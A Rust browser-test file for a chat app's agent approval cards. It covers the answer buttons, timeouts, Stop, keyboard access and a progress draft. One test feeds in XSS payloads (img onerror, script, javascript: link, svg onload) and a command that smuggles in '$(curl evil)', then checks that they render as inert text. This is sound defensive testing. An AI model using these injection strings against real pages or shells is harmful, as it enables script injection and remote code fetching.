//! One device answering: the card, each choice sent once, the resolved
//! line, the thread's "needs you" badge and the page title, timeouts,
//! Stop while a request waits, hostile text and the progress draft.

use serde_json::json;

use crate::support::approvals::*;
use crate::support::ui::*;
use crate::support::{run, secs};

const NEEDS_YOU_C1: &str = "[data-channel-id=c1] [data-testid=needs-you]";

#[test]
fn each_choice_sends_one_respond_and_the_card_resolves() {
    run(|| async {
        let (fake, page) = open_c1().await;
        let b = &page.browser;
        let cases = [
            ("once", "Allowed once"),
            ("session", "Allowed for this thread"),
            ("always", "Always allowed"),
            ("deny", "Denied"),
        ];
        for (i, (choice, said)) in cases.into_iter().enumerate() {
            let id = format!("r{i}");
            ask(&fake, request("c1", &id, &ALL_CHOICES));
            wait_state(b, &id, "pending").await;
            let buttons = format!("{} .approval-choices button", card(&id));
            let labels = b.texts_of(&buttons).await;
            let want = [
                "Allow once",
                "Allow for this thread",
                "Always allow",
                "Deny",
            ];
            if labels != want {
                b.fail(&format!("buttons {labels:?}, want {want:?}")).await;
            }
            b.wait_for(NEEDS_YOU_C1, secs(5)).await;
            wait_title(b, "(1) needs you · aria").await;

            let button = format!("{} button[data-choice={choice}]", card(&id));
            if choice == "always" {
                // Asked once more; Cancel goes back without an answer.
                b.click(&button).await;
                b.click("[data-testid=cancel-always]").await;
                b.wait_for(&button, secs(5)).await;
                b.click(&button).await;
                double_click(b, "[data-testid=confirm-always]").await;
            } else {
                double_click(b, &button).await;
            }
            wait_state(b, &id, "resolved").await;
            let got = outcome(b, &id).await;
            if got != said {
                b.fail(&format!("{id}: outcome {got:?}, want {said:?}"))
                    .await;
            }
            let sent = responds(&fake, &id);
            let one_right =
                sent.len() == 1 && sent[0]["choice"] == choice && sent[0]["channel_id"] == "c1";
            if !one_right {
                b.fail(&format!(
                    "{id}: want one respond {choice:?}, the app sent {sent:?}"
                ))
                .await;
            }
            b.wait_gone(NEEDS_YOU_C1, secs(5)).await;
            wait_title(b, "aria").await;
            fake.push(json!({"type": "typing", "channel_id": "c1", "on": false}));
        }
        // Resolved cards are one line each, in the order they were logged.
        let lines = b.texts_of("[data-testid=approval-outcome]").await;
        assert_eq!(
            lines,
            [
                "Allowed once",
                "Allowed for this thread",
                "Always allowed",
                "Denied"
            ]
        );
        page.finish().await;
    });
}

#[test]
fn only_known_offered_choices_show_in_order_and_the_card_is_keyboard_reachable() {
    run(|| async {
        let (fake, page) = open_c1().await;
        let b = &page.browser;
        // The user's message first, as in a real turn (the first row of an
        // empty thread is a page load, not news).
        fake.push(
            json!({"type": "message", "channel_id": "c1", "message_id": "u1", "seq": 1,
            "role": "user", "text": "clean up", "ts": 1}),
        );
        b.wait_for("[data-seq='1']", secs(10)).await;
        ask(&fake, request("c1", "r1", &["deny", "teleport", "once"]));
        wait_state(b, "r1", "pending").await;
        let labels = b
            .texts_of(&format!("{} .approval-choices button", card("r1")))
            .await;
        assert_eq!(labels, ["Deny", "Allow once"]);
        // Deny looks different from the allowing answers.
        let deny_class = b
            .js(
                "return document.querySelector(arguments[0]).className;",
                vec![json!(format!("{} button[data-choice=deny]", card("r1")))],
            )
            .await;
        assert!(deny_class.as_str().is_some_and(|c| c.contains("deny")));
        // Announced once, politely, without taking the focus from the composer.
        b.poll(
            "the live region to announce the request",
            secs(5),
            || async {
                let said = b.texts_of("[data-testid=live-polite]").await;
                said.iter()
                    .any(|t| t.starts_with("The agent asks for your approval: "))
                    .then_some(())
            },
        )
        .await;
        let in_card = b
            .js(
                "const a = document.activeElement; return !!(a && a.closest('[data-testid=approval]'));",
                vec![],
            )
            .await;
        assert_eq!(in_card, json!(false), "the card must not take the focus");
        // Keyboard: the button takes the focus, Enter answers.
        let once = format!("{} button[data-choice=once]", card("r1"));
        b.js(
            "document.querySelector(arguments[0]).focus();",
            vec![json!(once)],
        )
        .await;
        let enter: char = fantoccini::key::Key::Enter.into();
        b.type_into(&once, &enter.to_string()).await;
        wait_state(b, "r1", "resolved").await;
        assert_eq!(responds(&fake, "r1").len(), 1);
        page.finish().await;
    });
}

#[test]
fn a_timeout_and_stop_while_waiting_resolve_the_card() {
    run(|| async {
        let (fake, page) = open_c1().await;
        let b = &page.browser;

        ask(&fake, request("c1", "late", &ALL_CHOICES));
        wait_state(b, "late", "pending").await;
        fake.resolve_approval("late", "timeout");
        wait_state(b, "late", "resolved").await;
        assert_eq!(outcome(b, "late").await, "Timed out");
        assert!(!b.exists(&format!("{} button", card("late"))).await);

        // Stop shows while a request waits; it cancels the turn, and the
        // gateway resolves the request as cancelled.
        ask(&fake, request("c1", "stopped", &ALL_CHOICES));
        wait_state(b, "stopped", "pending").await;
        b.click("[data-testid=stop]").await;
        fake.wait_received("turn.cancel", secs(10), |f| f["channel_id"] == "c1")
            .await;
        wait_state(b, "stopped", "resolved").await;
        assert_eq!(outcome(b, "stopped").await, "Cancelled");
        b.wait_gone("[data-testid=stop]", secs(10)).await;
        assert!(responds(&fake, "stopped").is_empty());
        page.finish().await;
    });
}

#[test]
fn hostile_text_in_a_request_stays_inert() {
    run(|| async {
        let (fake, page) = open_c1().await;
        let b = &page.browser;
        let title = "<img src=x onerror=\"window.__pwned=1\">";
        let command = "echo \"<script>window.__pwned=2</script>\" && $(curl evil) <b>x</b>";
        let description =
            "<a href=\"javascript:window.__pwned=3\">click</a> <svg onload=window.__pwned=4>";
        let mut req = request("c1", "evil", &["once", "deny"]);
        req["title"] = json!(title);
        req["command"] = json!(command);
        req["description"] = json!(description);
        ask(&fake, req);
        wait_state(b, "evil", "pending").await;
        let c = card("evil");
        assert_eq!(b.text_of(&format!("{c} .approval-title")).await, title);
        assert_eq!(b.text_of(&format!("{c} .approval-command")).await, command);
        assert_eq!(
            b.text_of(&format!("{c} .approval-description")).await,
            description
        );
        let injected = format!("{c} img, {c} script, {c} b, {c} a, {c} svg");
        assert_eq!(b.count(&injected).await, 0, "markup became elements");
        b.click(&format!("{c} button[data-choice=deny]")).await;
        wait_state(b, "evil", "resolved").await;
        assert_eq!(b.text_of(&format!("{c} .approval-what")).await, command);
        assert_eq!(b.count(&injected).await, 0);
        assert_eq!(b.js("return window.__pwned;", vec![]).await, json!(null));
        page.finish().await;
    });
}

#[test]
fn progress_mode_shows_the_waiting_request_as_a_draft_line() {
    run(|| async {
        let (fake, page) = open_c1().await;
        let b = &page.browser;
        choose_setting(b, "streaming", "progress").await;
        ask(&fake, request("c1", "p1", &ALL_CHOICES));
        wait_state(b, "p1", "pending").await;
        let want = format!("⏸ Waiting for approval: {TITLE}");
        b.poll("the draft's approval line", secs(10), || async {
            let lines = b
                .texts_of("[data-testid=progress-draft] .progress-line")
                .await;
            lines.contains(&want).then_some(())
        })
        .await;
        b.click(&format!("{} button[data-choice=once]", card("p1")))
            .await;
        wait_state(b, "p1", "resolved").await;
        b.poll("the approval line to leave the draft", secs(10), || async {
            let lines = b
                .texts_of("[data-testid=progress-draft] .progress-line")
                .await;
            (!lines.iter().any(|l| l.contains("Waiting for approval"))).then_some(())
        })
        .await;
        page.finish().await;
    });
}
